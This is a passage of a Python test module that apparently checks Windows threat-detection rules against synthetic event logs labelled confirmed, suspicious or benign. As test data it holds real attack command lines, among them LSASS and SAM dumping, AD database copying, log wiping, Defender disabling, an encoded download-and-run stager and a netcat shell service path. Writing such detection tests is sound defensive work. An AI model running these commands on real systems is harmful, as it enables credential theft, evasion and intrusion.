"""Rules on credentials, evasion, persistence, movement and discovery: found, not found, and how strong."""

import base64
import time

import pytest

from incidents import (
    EVIL,
    INSTALLED,
    LSASS,
    OUTSIDE,
    POWERSHELL,
    SERVICES,
    SYSTEM32,
    TEMP,
    access,
    call,
    event,
    examples,
    found,
    inject,
    launch,
    logon,
    made,
    member,
    service,
    setting,
    strengths,
    task,
    truth_of,
    write,
)
from verifier import RULES
from verifier.commands import decoded, key_form, meanings, number_of
from verifier.rules import (
    accounts,
    callbacks,
    controls,
    credentials,
    discovery,
    escalation,
    evasion,
    movement,
    persistence,
    programs,
)

CMD = SYSTEM32 + "cmd.exe"
REG = SYSTEM32 + "reg.exe"
SVCHOST = SYSTEM32 + "svchost.exe"
DOWNLOADS = "C:\\Users\\ana\\Downloads\\"
SERVICES_KEY = "HKLM\\System\\CurrentControlSet\\Services\\"
CONTROL_KEY = "HKLM\\System\\CurrentControlSet\\Control\\"
WHOLE = "0x1fffff"
UNBACKED = "C:\\Windows\\ntdll.dll+1|UNKNOWN(000001)"


def run(command, *, at=0, path=None, **more):
    """A command line, run by the program that it names."""
    name = command.split()[0]
    return launch(at, path or SYSTEM32 + (name if name.endswith(".exe") else f"{name}.exe"), command, **more)


def script(text, at=0, **more):
    return event(at, "script", "block", script_text=text, **more)


def share(name, path, at=0, src="10.20.1.12", **more):
    return event(at, "share", "access", share_name=f"\\\\*\\{name}", file_path=path, src_ip=src, **more)


def pipe(name, program=EVIL, activity="create", **more):
    return event(0, "pipe", activity, pipe_name=name, process_path=program, **more)


def module(path, program=INSTALLED, state="unsigned", **more):
    return event(0, "module_load", "dll", file_path=path, process_path=program, signature_state=state, **more)


def ticket(at, activity="tgs", **more):
    return event(
        at, "kerberos", activity, **{"host": "DIR-01", "user": None, "src_ip": "10.20.1.11", "user_name": "ana", **more}
    )


def changed(properties, kind="user", activity="modify", **more):
    return event(0, "directory", activity, properties=properties, object_type=kind, object_dn="CN=x,DC=corp", **more)


def many(count, make):
    return [make(number) for number in range(count)]


def encoded(text):
    return f"powershell.exe -enc {base64.b64encode(text.encode('utf-16-le')).decode()}"


CASES = {
    # ------------------------------------------------------------ credentials
    "lsass-dump-command": [
        ("confirmed", [run("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 628 C:\\x.dmp full")]),
        ("confirmed", [run("cmd.exe /c procdump -ma lsass.exe o.dmp")]),
        ("confirmed", [run("powershell.exe sekurlsa::logonpasswords")]),
        ("", [run("procdump.exe -ma w3wp.exe")]),
    ],
    "lsass-read-from-memory": [
        ("confirmed", [access(0, INSTALLED, call_trace=UNBACKED)]),
        ("confirmed", [access(0, POWERSHELL)]),
        ("confirmed", [event(0, "object_access", "open", object_name=LSASS, access_mask="0x10", process_path=EVIL)]),
        ("", [access(0, INSTALLED)]),
        ("", [access(0, POWERSHELL, "0x1400", call_trace=UNBACKED)]),
        ("", [event(0, "object_access", "open", object_name=LSASS, access_mask="0x10", process_path=EVIL, outcome="failure")]),
    ],
    "registry-hive-saved": [
        ("confirmed", [run("reg.exe save HKLM\\SAM sam.hiv")]),
        ("confirmed", [run("reg save \"hklm\\system\" s")]),
        ("", [run("reg.exe save HKLM\\Software\\Acme a.hiv")]),
    ],
    "directory-copied": [
        ("confirmed", [run("ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\x\" q q")]),
        ("confirmed", [run("cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\n")]),
        ("suspicious", [run("vssadmin.exe create shadow /for=C:")]),
        ("", [run("vssadmin.exe list shadows")]),
    ],
    "credential-file": [
        ("confirmed", [write(0, "D:\\n\\ntds.dit")]),
        ("confirmed", [write(0, TEMP + "lsass_628.dmp")]),
        ("confirmed", [write(0, SYSTEM32 + "kiwi.log", LSASS)]),
        ("", [write(0, "C:\\Windows\\NTDS\\ntds.dit"), write(1, TEMP + "word.dmp")]),
        ("", [write(0, "D:\\n\\ntds.dit", activity="delete")]),
    ],
    "stored-credentials-searched": [("suspicious", [run("cmdkey.exe /list")]), ("", [run("cmdkey.exe /add:x")])],
    "signing-key-read": [
        ("confirmed", [event(0, "directory", "access", object_dn="CN=1,CN=ADFS,CN=Microsoft,CN=Program Data,DC=x", properties="(name=CryptoPolicy)")]),
        ("suspicious", [script("SELECT ServiceSettingsData from IdentityServerPolicy.ServiceSettings")]),
        ("", [event(0, "directory", "access", object_dn="CN=ADFS,CN=Microsoft,CN=Program Data,DC=x", user="FIL-01$")]),
    ],
    "kerberos-guessing": [
        ("suspicious", many(5, lambda n: ticket(n * 75, "preauth_failure", user_name=f"u{n}", status="0x18"))),
        ("confirmed", many(5, lambda n: ticket(n, "tgt", user_name=f"u{n}", status="0x6", src_ip=OUTSIDE))),
        ("", many(4, lambda n: ticket(n, "preauth_failure", status="0x18"))),
        ("", many(5, lambda n: ticket(n * 76, "preauth_failure", status="0x18"))),
        ("", many(5, lambda n: ticket(n, "preauth_failure", status="0x12"))),
    ],
    "failures-on-host": [
        ("suspicious", many(5, lambda n: logon(n * 75, "failure", src=None))),
        ("confirmed", many(5, lambda n: logon(n, "failure", name=None))),
        ("", many(4, lambda n: logon(n, "failure", src=None))),
        ("", many(5, lambda n: logon(n * 76, "failure", src=None))),
    ],
    "ticket-without-preauth": [
        ("confirmed", [ticket(0, "tgt", preauth_type=0, status="0x0", ticket_encryption="0x17")]),
        ("", [ticket(0, "tgt", preauth_type=0, status="0x0", ticket_encryption="0x12")]),
        (
            "",
            [ticket(0, "tgt", preauth_type=0, status="0x0", ticket_encryption="0x12", user_name=name) for name in "ab"],
        ),
        (
            "suspicious",
            [ticket(0, "tgt", preauth_type=0, status="0x0", ticket_encryption="0x12", user_name=name) for name in "abc"],
        ),
        ("", [ticket(0, "tgt", preauth_type=2, status="0x0", ticket_encryption="0x17")]),
        ("", [ticket(0, "tgt", preauth_type=0, status="0x6", ticket_encryption="0x17")]),
    ],
    "machine-name-ticket": [
        ("confirmed", [ticket(0, user_name="dir-01@CORP", service_name="DIR-01$")]),
        ("", [ticket(0, user_name="DIR-01$@CORP", service_name="DIR-01$")]),
    ],
    "secrets-over-share": [
        ("confirmed", [share("C$", "Users\\ben\\AppData\\Local\\Chrome\\Default\\Login Data")]),
        ("", [share("Public", "Users\\ben\\Login Data")]),
    ],
    "traffic-captured": [("suspicious", [run("pktmon.exe start --etw")]), ("", [run("netsh.exe trace show status")])],
    "database-shell": [
        ("suspicious", [event(0, "control_change", "server_setting", control_name="xp_cmdshell", new_value="1")]),
        ("confirmed", [script("EXEC master..xp_cmdshell 'whoami'")]),
        ("", [event(0, "control_change", "server_setting", control_name="xp_cmdshell", new_value="0")]),
    ],
    # ------------------------------------------------------------ evasion
    "logs-wiped": [
        ("suspicious", many(2, lambda n: run("wevtutil.exe cl Security", at=n))),
        ("confirmed", many(3, lambda n: run("wevtutil.exe cl Security", at=n))),
        ("confirmed", many(3, lambda n: event(n, "control_change", "log_clear", control_name=f"log {n}"))),
        ("", many(2, lambda n: event(n, "control_change", "log_clear", control_name=f"log {n}"))),
        ("", [run("wevtutil.exe qe Security")]),
    ],
    "logging-weakened": [
        ("confirmed", [run("auditpol.exe /clear /y")]),
        ("suspicious", [run("auditpol.exe /set /subcategory:Logon /success:disable")]),
        ("confirmed", [setting(0, None, CONTROL_KEY + "MiniNt", activity="key_create")]),
        ("confirmed", [run(f"reg.exe add {CONTROL_KEY}MiniNt")]),
        ("suspicious", [setting(0, "DWORD (0x00000000)", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging")]),
        ("", [setting(0, "DWORD (0x00000001)", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging")]),
        ("confirmed", [setting(0, "DWORD (0x00000004)", SERVICES_KEY + "EventLog\\Start")]),
        ("confirmed", many(3, lambda n: event(n, "control_change", "audit_policy", control_name=f"{n}", new_value="Success removed"))),
        ("suspicious", many(2, lambda n: event(n, "control_change", "audit_policy", control_name=f"{n}", new_value="Success removed"))),
        ("", many(3, lambda n: event(n, "control_change", "audit_policy", control_name=f"{n}", new_value="Success removed", user="FIL-01$"))),
        ("confirmed", [event(0, "service", "config", service_name="EventLog", start_type="disabled")]),
    ],
    "log-access-changed": [
        ("confirmed", [setting(0, "O:SYG:SYD:(D;;0x1;;;WD)", SERVICES_KEY + "EventLog\\Security\\CustomSD", POWERSHELL)]),
        ("suspicious", [setting(0, "O:SYG:SYD:(A;;0x1;;;SY)", SERVICES_KEY + "EventLog\\System\\CustomSD", POWERSHELL)]),
        ("suspicious", [run("wevtutil.exe sl Security /ca:O:BAG:SYD:(A;;0x1;;;SY)")]),
        ("confirmed", [run("wevtutil.exe sl Security /ca:O:BAG:SYD:(D;;0x1;;;BA)")]),
        ("", [setting(0, "O:SYG:SYD:(D;;0x1;;;WD)", SERVICES_KEY + "EventLog\\Security\\CustomSD", SVCHOST)]),
        ("", [run("wevtutil.exe gl Security")]),
    ],
    "protection-lowered": [
        ("suspicious", [run("powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true")]),
        ("confirmed", [run("sc.exe stop WinDefend"), run("netsh.exe advfirewall set allprofiles state off", at=1)]),
        ("confirmed", [setting(0, "1", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\DisableAntiSpyware", EVIL)]),
        ("", [setting(0, "1", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\DisableAntiSpyware", SVCHOST)]),
        ("", [run("powershell.exe Get-MpPreference"), run("sc.exe stop Spooler")]),
    ],
    "security-switch": [
        ("suspicious", [setting(0, "DWORD (0x00000001)", CONTROL_KEY + "SecurityProviders\\WDigest\\UseLogonCredential")]),
        ("confirmed", [setting(0, "DWORD (0x00000001)", CONTROL_KEY + "SecurityProviders\\WDigest\\UseLogonCredential", EVIL)]),
        ("suspicious", [run(f'reg.exe add "{CONTROL_KEY}Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f')]),
        ("", [setting(0, "DWORD (0x00000000)", CONTROL_KEY + "SecurityProviders\\WDigest\\UseLogonCredential")]),
        ("", [run(f'reg.exe add "{CONTROL_KEY}Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 1 /f')]),
    ],
    "obfuscated-script": [
        ("suspicious", [script("& ($env:ComSpec[4,15,25]-join'')")]),
        ("confirmed", [script("& ($env:ComSpec[4,15,25]-join'')"), run("powershell.exe -w hidden -nop x", at=1)]),
        ("", [script("Get-Service -join ','")]),
    ],
    "hidden-powershell": [
        ("suspicious", [run("powershell.exe -nop -w hidden -c x")]),
        ("suspicious", [run("cmd.exe /c powershell -NonInteractive -WindowStyle Hidden x")]),
        ("", [run("powershell.exe -w hidden x"), run("powershell.exe -nop -noni x", at=1)]),
    ],
    "encoded-stager": [
        ("confirmed", [run(encoded("IEX (New-Object Net.WebClient).DownloadString('http://x')"))]),
        ("", [run(encoded("Get-Service | Where-Object Status -eq Running"))]),
    ],
    "offensive-script": [
        ("suspicious", [script("[Win32]::VirtualAlloc(0, 1)")]),
        ("confirmed", [script("[Win32]::VirtualAlloc(0, 1)"), run("powershell.exe -w hidden -nop x", at=1)]),
        ("", [script("Get-Process")]),
    ],
    "masquerading-program": [
        ("confirmed", [launch(0, "C:\\Windows\\svchost.exe")]),
        ("confirmed", [launch(0, EVIL, process_original_name="CMD.EXE")]),
        ("", [launch(0, SVCHOST), launch(1, "C:\\Windows\\SysWOW64\\rundll32.exe")]),
        ("", [launch(0, EVIL, process_original_name="evil.exe")]),
    ],
    "launcher-runs-user-file": [
        ("suspicious", [run(f"rundll32.exe {TEMP}a.dll,Run")]),
        ("confirmed", [run(f"rundll32.exe {TEMP}a.dll,Run"), launch(300, CMD, parent=SYSTEM32 + "rundll32.exe")]),
        ("suspicious", [run(f"rundll32.exe {TEMP}a.dll,Run"), launch(301, CMD, parent=SYSTEM32 + "rundll32.exe")]),
        ("confirmed", [run("mavinject.exe 3440 /INJECTRUNNING C:\\x.dll")]),
        ("confirmed", [run("desktopimgdownldr.exe /lockscreenurl:https://x.com/a /eventName:e")]),
        ("suspicious", [run("msiexec.exe /q /i https://x.com/a.msi")]),
        ("", [run("rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL")]),
    ],
    "unbacked-code": [
        ("confirmed", [access(0, EVIL, WHOLE, SVCHOST, call_trace=UNBACKED)]),
        ("suspicious", [access(0, POWERSHELL, WHOLE, SVCHOST, call_trace=UNBACKED)]),
        ("", [access(0, EVIL, WHOLE, SVCHOST, call_trace="C:\\Windows\\ntdll.dll+1")]),
        ("", [access(0, EVIL, "0x1400", SVCHOST, call_trace=UNBACKED)]),
    ],
    "installed-injector": [
        ("confirmed", [inject(0, POWERSHELL)]),
        ("confirmed", [inject(0, INSTALLED, start_module="0x590000")]),
        ("", [inject(0, INSTALLED), inject(1, SYSTEM32 + "csrss.exe", start_module="0x590000")]),
    ],
    "foreign-module": [
        ("suspicious", [module(TEMP + "a.dll")]),
        ("suspicious", [module(SYSTEM32 + "a.dll", SYSTEM32 + "cliconfg.exe")]),
        ("suspicious", [module("D:\\plugin.dll", None, None)]),
        ("", [module(TEMP + "a.dll", state="signed")]),
        ("", [module(SYSTEM32 + "a.dll")]),
    ],
    "history-erased": [
        ("suspicious", [setting(0, None, "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", activity="key_delete")]),
        ("suspicious", [run("attrib.exe +h x.exe")]),
        ("", [setting(0, None, "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", activity="key_create")]),
    ],
    # ------------------------------------------------------------ persistence
    "odd-service": [
        ("suspicious", [service(0, "D:\\Tools\\a.exe")]),
        ("suspicious", [service(0, "%SystemRoot%\\rnd.exe")]),
        ("", [service(0, "\\SystemRoot\\system32\\drivers\\a.sys"), service(1, f'"{INSTALLED}" /service')]),
        ("", [service(0, "D:\\Tools\\a.exe", "config")]),
    ],
    "service-runs-command": [
        ("confirmed", [service(0, "cmd.exe /c echo abc > \\\\.\\pipe\\abc")]),
        ("confirmed", [task(0, "cmd.exe /C tasklist > %windir%\\Temp\\x.tmp 2>&1")]),
        ("confirmed", [setting(0, "%COMSPEC% /Q /c x", SERVICES_KEY + "X\\ImagePath", SERVICES)]),
        ("confirmed", [service(0, '"C:\\Windows\\System32\\cmd.exe"')]),
        ("", [service(0, "cmd.exe /c start acme"), task(1, "C:\\Windows\\System32\\defrag.exe")]),
    ],
    "service-changed": [
        ("suspicious", [run("sc.exe config Fax binPath= C:\\Tools\\a.exe")]),
        ("confirmed", [setting(0, "C:\\Users\\Public\\a.exe", SERVICES_KEY + "Fax\\ImagePath")]),
        ("confirmed", [script(f"Set-ItemProperty -Path {SERVICES_KEY.replace('HKLM', 'HKLM:')}Fax -Name ImagePath -Value 'C:\\nc.exe -e cmd'")]),
        ("", [setting(0, "C:\\Program Files\\a.exe", SERVICES_KEY + "Fax\\ImagePath", SERVICES)]),
        ("", [run("sc.exe failure Fax reset= 86400 actions= restart/60000"), run("sc.exe query Fax", at=1)]),
    ],
    "autostart-value": [
        ("suspicious", [setting(0, EVIL, "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs")]),
        ("suspicious", [run(f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d {EVIL}")]),
        ("", [setting(0, INSTALLED, "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs", INSTALLED)]),
        ("suspicious", [setting(0, EVIL, "HKU\\S-1\\Software\\Microsoft\\Office\\Outlook\\Addins\\Acme.Connect\\Manifest")]),
        ("suspicious", [setting(0, EVIL, "HKU\\S-1\\Software\\Microsoft\\Office\\16.0\\Outlook\\Addins\\Acme.Connect\\Manifest")]),
        ("", [setting(0, INSTALLED, "HKU\\S-1\\Software\\Microsoft\\Office\\Outlook\\Addins\\Acme.Connect\\Manifest", INSTALLED)]),
        ("", [setting(0, EVIL, "HKU\\S-1\\Software\\Microsoft\\Office\\Outlook\\Addins\\Acme.Connect\\Description")]),
        ("", [setting(0, EVIL, "HKLM\\Software\\Acme\\Path")]),
    ],
    "class-hijack": [
        ("suspicious", [setting(0, "C:\\ProgramData\\a.dll", "HKU\\S-1_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)")]),
        ("confirmed", [setting(0, "C:\\ProgramData\\a.dll", "HKU\\S-1_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)", EVIL)]),
        ("", [setting(0, "C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\a.dll", "HKU\\S-1_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)")]),
        ("", [setting(0, "C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\a.dll", "HKU\\S-1_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)", "C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\Setup.exe")]),
        ("confirmed", [setting(0, "C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive\\a.dll", "HKU\\S-1_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32\\(Default)", "C:\\Users\\ana\\Downloads\\viewer.exe")]),
    ],
    "startup-folder": [
        ("suspicious", [write(0, "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe", INSTALLED)]),
        ("confirmed", [write(0, "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk", "System")]),
        ("", [write(0, "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk")]),
        ("", [write(0, "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\desktop.ini", "System")]),
    ],
    "task-command": [
        ("suspicious", [run("schtasks.exe /create /tn a /tr cmd.exe /sc daily")]),
        ("suspicious", [task(0, "cmd.exe /c x")]),
        ("confirmed", [task(0, "cmd.exe /c x"), task(600, None, "delete")]),
        ("suspicious", [task(0, "cmd.exe /c x"), task(601, None, "delete")]),
        ("", [task(0, "cmd.exe /c x", user="FIL-01$"), run("schtasks.exe /query", at=1)]),
    ],
    "account-command": [("suspicious", [run("net.exe user eve pw /add")]), ("", [run("net.exe user eve")])],
    "odd-account": [
        ("suspicious", [made(0), made(3600, activity="delete")]),
        ("", [made(0), made(3601, activity="delete")]),
        ("confirmed", [made(0, "eve$", attributes="set: normal account")]),
        ("", [made(0, "WKS-09$", attributes="set: workstation trust account")]),
    ],
    "identity-history": [("confirmed", [made(0, "eve", "sid_history")]), ("", [made(0, "eve", "modify")])],
    "account-takeover": [
        ("suspicious", [made(0, "WKS-01$", "modify", attributes="set: trusted for delegation")]),
        ("suspicious", [made(0, "ben", "modify", attributes="ServicePrincipalNames=HTTP/x")]),
        ("confirmed", [changed("msDS-AllowedToActOnBehalfOfOtherIdentity=O:BA added", "computer")]),
        ("confirmed", [made(0, "DIR-01", "rename", attributes="OldTargetUserName=WKS-09$")]),
        ("confirmed", [made(0, "DIR-01$", "modify", user="ANONYMOUS LOGON")]),
        ("", [made(0, "ben", "modify", attributes="ServicePrincipalNames=HTTP/x", user="DIR-01$")]),
        ("", [made(0, "ben", "modify", attributes="set: password does not expire"), changed("description=x added")]),
    ],
    "replica-rights": [
        ("confirmed", [event(0, "directory", "access", properties="%%7688 {9923a32a-3607-11d2-b9be-0000f87a36b2}")]),
        ("", [event(0, "directory", "access", properties="%%7688 {9923a32a-3607-11d2-b9be-0000f87a36b2}", user="DIR-01$")]),
    ],
    "many-privileged-groups": [
        ("confirmed", [member(0), member(300, "Enterprise Admins"), member(600, "Schema Admins")]),
        ("", [member(0), member(300, "Enterprise Admins"), member(601, "Schema Admins")]),
        ("", [member(0), member(300, "Enterprise Admins")]),
    ],
    # ------------------------------------------------------------ escalation
    "elevation-bypass": [
        ("suspicious", [setting(0, CMD, "HKU\\S-1_CLASSES\\mscfile\\shell\\open\\command\\(Default)")]),
        ("confirmed", [launch(0, CMD, parent=SYSTEM32 + "eventvwr.exe", process_integrity="High")]),
        ("suspicious", [launch(0, CMD, parent=SYSTEM32 + "eventvwr.exe", process_integrity="Medium")]),
        ("confirmed", [run(f"wusa.exe {TEMP}a.cab /extract:C:\\Windows\\System32")]),
        ("", [launch(0, SYSTEM32 + "mmc.exe", parent=SYSTEM32 + "eventvwr.exe", process_integrity="High")]),
    ],
    "sign-in-screen-shell": [
        ("confirmed", [launch(0, SYSTEM32 + "whoami.exe", parent=SYSTEM32 + "osk.exe")]),
        ("", [launch(0, SYSTEM32 + "osk.exe", parent=SYSTEM32 + "utilman.exe")]),
    ],
    "system-shell": [
        ("confirmed", [launch(0, CMD, parent=EVIL, user="NT AUTHORITY\\SYSTEM")]),
        ("confirmed", [launch(0, CMD, parent=SYSTEM32 + "spoolsv.exe")]),
        ("confirmed", [launch(0, CMD, parent=SVCHOST, parent_cmd_line="svchost.exe -k DcomLaunch -p -s PlugPlay")]),
        ("", [launch(0, CMD, parent=SVCHOST, parent_cmd_line="svchost.exe -k netsvcs -p -s Schedule")]),
        ("", [launch(0, CMD, parent=EVIL)]),
    ],
    "launcher-starts-shell": [
        ("suspicious", [launch(0, CMD, parent=SYSTEM32 + "mshta.exe")]),
        ("", [launch(0, CMD, parent=INSTALLED)]),
    ],
    "remote-registry": [
        ("suspicious", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent", SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
        ("", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent")]),
    ],
    "pipe-impersonation": [
        ("confirmed", [pipe("\\9023de59\\pipe\\spoolss")]),
        ("confirmed", [run("cmd.exe /c echo abc > \\\\.\\pipe\\abc")]),
        ("", [pipe("\\spoolss"), pipe("\\9023de59\\pipe\\spoolss", activity="connect")]),
    ],
    "privilege-of-foreign-program": [
        ("suspicious", [event(0, "privilege", "service_called", privileges="SeTcbPrivilege", process_path="C:\\Tools\\a.exe")]),
        ("", [event(0, "privilege", "service_called", privileges="SeTcbPrivilege", process_path=SVCHOST)]),
        ("", [event(0, "privilege", "service_called", privileges="SeBackupPrivilege", process_path="C:\\Tools\\a.exe")]),
    ],
    # ------------------------------------------------------------ movement
    "remote-command": [
        ("suspicious", [launch(0, CMD, parent=SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
        ("confirmed", [launch(0, CMD, "cmd.exe /c x 1> \\\\127.0.0.1\\ADMIN$\\__1", parent=SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
        ("confirmed", [logon(0, "success", src="10.20.1.12"), launch(300, CMD, parent=SYSTEM32 + "winrshost.exe")]),
        ("suspicious", [logon(0, "success", src="10.20.1.12"), launch(301, CMD, parent=SYSTEM32 + "winrshost.exe")]),
        ("", [launch(0, CMD, parent=SYSTEM32 + "mmc.exe"), launch(1, INSTALLED, parent=SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
    ],
    "output-to-share": [
        ("confirmed", [run("cmd.exe /c whoami > \\\\127.0.0.1\\C$\\o")]),
        ("", [run("cmd.exe /c whoami > C:\\o")]),
    ],
    "remote-shell-pipe": [
        ("suspicious", [pipe("\\PSEXESVC-WKS-2124-stdin", "C:\\Windows\\PSEXESVC.exe")]),
        ("confirmed", [pipe("\\svc-WKS-2124-stdin", "C:\\Windows\\svc.exe")]),
        ("confirmed", [pipe("\\postex_1a2b")]),
        ("confirmed", [pipe("\\postex_1a2b", activity="connect")]),
        ("suspicious", [pipe("\\PSEXESVC-WKS-2124-stdin", "C:\\Windows\\svc.exe", "connect")]),
        ("", [pipe("\\wkssvc")]),
    ],
    "remote-control-pipe": [
        ("suspicious", [share("IPC$", "svcctl")]),
        ("suspicious", [share("IPC$", name, n) for n, name in enumerate(("samr", "lsarpc", "srvsvc"))]),
        ("confirmed", [share("IPC$", "svcctl"), share("ADMIN$", "a.exe", 1)]),
        ("confirmed", [share("C$", "Windows\\Temp\\abcdefgh.tmp")]),
        ("suspicious", [pipe("\\atsvc", "System", "connect"), pipe("\\winreg", "System", "connect")]),
        ("confirmed", [pipe(name, "System", "connect") for name in ("\\atsvc", "\\winreg", "\\svcctl")]),
        ("", [share("IPC$", "samr"), share("IPC$", "lsarpc"), share("IPC$", "svcctl", user="FIL-01$")]),
        ("", [share("IPC$", "svcctl", src="127.0.0.1"), share("Public", "a.exe")]),
    ],
    "share-mounted": [("suspicious", [run("net.exe use m: \\\\fil-01\\c$ /user:x")]), ("", [run("net.exe use m: \\\\fil-01\\docs")])],
    "borrowed-logon": [
        ("suspicious", [logon(0, "success", logon_type=9, logon_process="seclogo", src="::1")]),
        ("suspicious", [logon(0, "success", auth_protocol="Kerberos", src="127.0.0.1")]),
        ("suspicious", [logon(0, "explicit_credentials", "ben", None, process_path=SYSTEM32 + "wbem\\WMIC.exe", user="ana")]),
        ("", [logon(0, "explicit_credentials", "ben", None, process_path=SVCHOST, user="ana")]),
        ("", [logon(0, "success", "DIR-01$", auth_protocol="Kerberos", src="127.0.0.1"), logon(1, "success", logon_type=9, logon_process="Advapi")]),
    ],
    "loose-program": [
        ("suspicious", [launch(0, DOWNLOADS + "a.exe", parent=CMD)]),
        ("suspicious", [launch(0, CMD, parent=DOWNLOADS + "a.exe")]),
        ("confirmed", [launch(0, DOWNLOADS + "a.exe", parent=CMD), launch(1, CMD, parent=DOWNLOADS + "a.exe")]),
        ("confirmed", [launch(0, DOWNLOADS + "a.exe", parent=CMD), call(1, DOWNLOADS + "a.exe", "10.20.3.11", dst_port=389)]),
        ("suspicious", [launch(0, DOWNLOADS + "a.exe", parent=CMD), call(1, DOWNLOADS + "a.exe", "10.20.3.11", dst_port=8080)]),
        ("suspicious", [launch(0, "\\\\tsclient\\c\\a.exe")]),
        ("suspicious", [launch(0, DOWNLOADS + "a.exe", parent="C:\\Program Files\\Office\\winword.exe")]),
        ("", [launch(0, INSTALLED, parent="C:\\Program Files\\Office\\winword.exe")]),
        ("", [launch(0, DOWNLOADS + "a.exe"), launch(1, DOWNLOADS + "setup.exe", parent=CMD), launch(2, INSTALLED, parent=CMD)]),
    ],
    "script-host-connects": [
        ("suspicious", [call(0, POWERSHELL, dst_port=4444)]),
        ("suspicious", [call(0, POWERSHELL, "10.20.1.12", dst_port=445)]),
        ("suspicious", [call(0, "C:\\Windows\\explorer.exe", "10.20.1.12", dst_port=49152)]),
        ("confirmed", [call(0, SYSTEM32 + "notepad.exe")]),
        ("", [call(0, POWERSHELL), call(1, INSTALLED, dst_port=4444), call(2, "C:\\Windows\\explorer.exe", "10.20.1.12", dst_port=49151)]),
    ],
    "transfer-job": [
        ("suspicious", [event(0, "net_conn", "bits_job", url="http://203.0.113.7/a")]),
        ("", [event(0, "net_conn", "bits_job", url="https://updates.example.com/a.exe")]),
    ],
    "product-detection": [
        ("suspicious", [event(0, "detection", "malware", finding_title="X")]),
        ("confirmed", [event(0, "detection", "malware", finding_title="X", severity="Severe")]),
        ("suspicious", [event(0, "detection", "ids_notice", finding_title="Trojan traffic")]),
        ("suspicious", [event(0, "detection", "ids_notice", finding_title="FTP::Password_Guessing")]),
        ("suspicious", [event(0, "detection", "ids_notice", finding_title="Credentials used elsewhere", severity="High")]),
        ("confirmed", [event(0, "detection", "ids_notice", finding_title="C2 beacon", severity="critical")]),
        ("", [event(0, "detection", "ids_notice", finding_title="TLS certificate expires soon")]),
        ("", [event(0, "detection", "ids_notice", finding_title="Recon:EC2/PortProbe", severity="medium")]),
        ("", [event(0, "detection", "ids_notice", severity="high")]),
        ("", [event(0, "detection", "ids_notice", finding_title="P2P client - Potential Corporate Privacy Violation", severity="high")]),
        ("", [event(0, "detection", "ids_notice", finding_title="Policy: file sharing", severity="high")]),
    ],
    # ------------------------------------------------------------ discovery
    "share-sweep": [
        ("suspicious", many(5, lambda n: call(n * 30, "System", f"10.20.1.{n + 20}", dst_port=445))),
        ("", many(4, lambda n: call(n, "System", f"10.20.1.{n + 20}", dst_port=445))),
        ("", many(5, lambda n: call(n * 31, "System", f"10.20.1.{n + 20}", dst_port=445))),
    ],
    "admin-discovery": [
        ("suspicious", [run('net.exe group "Domain Admins" /domain')]),
        ("suspicious", [script("Get-LocalGroupMember -Name Administrators")]),
        ("suspicious", [event(0, "directory", "access", object_dn="S-1-5-21-1-2-3-512", object_type="SAM_GROUP")]),
        ("", [run("net.exe localgroup administrators eve /add"), event(1, "directory", "access", object_dn="S-1-5-21-1-2-3-1104", object_type="SAM_USER")]),
    ],
    "looking-around": [
        ("suspicious", [run(f"{name}.exe", at=n * 100) for n, name in enumerate(("whoami", "systeminfo", "tasklist", "arp"))]),
        ("", [run(f"{name}.exe", at=n * 101) for n, name in enumerate(("whoami", "systeminfo", "tasklist", "arp"))]),
        ("", [run(f"{name}.exe", at=n) for n, name in enumerate(("whoami", "systeminfo", "tasklist"))]),
    ],
    "ticket-sweep": [
        ("suspicious", many(12, lambda n: ticket(n * 10, service_name=f"HOST{n}$"))),
        ("confirmed", many(20, lambda n: ticket(n, service_name=f"HOST{n}$"))),
        ("", many(11, lambda n: ticket(n, service_name=f"HOST{n}$"))),
        ("", many(12, lambda n: ticket(n * 11, service_name=f"HOST{n}$"))),
        ("suspicious", many(10, lambda n: event(n, "directory", "access", object_dn=f"CN={n}"))),
        ("", many(9, lambda n: event(n, "directory", "access", object_dn=f"CN={n}"))),
    ],
